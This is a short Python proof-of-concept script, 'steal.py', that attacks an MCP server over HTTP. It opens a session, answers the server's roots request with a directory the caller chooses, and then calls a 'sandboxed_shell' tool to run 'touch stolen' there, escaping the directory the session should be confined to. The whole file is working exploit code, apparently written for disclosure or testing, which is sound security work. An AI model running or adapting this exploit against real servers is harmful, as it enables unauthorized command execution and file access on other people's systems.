"""Asks the listener of one's own server for a session in another directory, and there for a file.

Usage: steal.py HOST PORT DIRECTORY
"""

import http.client
import json
import sys

HOST, PORT, DIRECTORY = sys.argv[1], int(sys.argv[2]), sys.argv[3]
headers = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"}


def post(message):
    connection = http.client.HTTPConnection(HOST, PORT)
    connection.request("POST", "/mcp", json.dumps({"jsonrpc": "2.0", **message}), headers)
    answer = connection.getresponse()
    text = answer.read().decode()
    if answer.status >= 400:
        sys.exit(f"{answer.status} {text}")
    headers.setdefault("Mcp-Session-Id", answer.headers.get("Mcp-Session-Id", ""))
    return text


client = {"name": "steal", "version": "1"}
params = {"protocolVersion": "2025-11-25", "capabilities": {"roots": {}}, "clientInfo": client}
post({"id": 1, "method": "initialize", "params": params})
post({"method": "notifications/initialized"})
stream = http.client.HTTPConnection(HOST, PORT)
stream.request("GET", "/mcp", headers={**headers, "Accept": "text/event-stream"})
events = stream.getresponse()
while not (line := events.readline().decode()).startswith("data: {"):
    pass
asked = json.loads(line.removeprefix("data: "))
post({"id": asked["id"], "result": {"roots": [{"uri": f"file://{DIRECTORY}"}]}})
arguments = {"command": "touch stolen", "execution_mode": "synchronous"}
print(post({"id": 2, "method": "tools/call", "params": {"name": "sandboxed_shell", "arguments": arguments}}))
